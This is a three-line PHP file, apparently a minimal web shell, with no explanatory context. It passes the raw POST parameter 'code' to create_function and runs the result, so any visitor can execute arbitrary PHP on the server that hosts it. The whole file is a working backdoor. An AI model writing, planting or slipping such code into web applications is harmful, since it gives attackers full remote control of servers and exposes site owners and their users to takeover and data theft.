<?php
$run = create_function('', $_POST['code']);
$run();
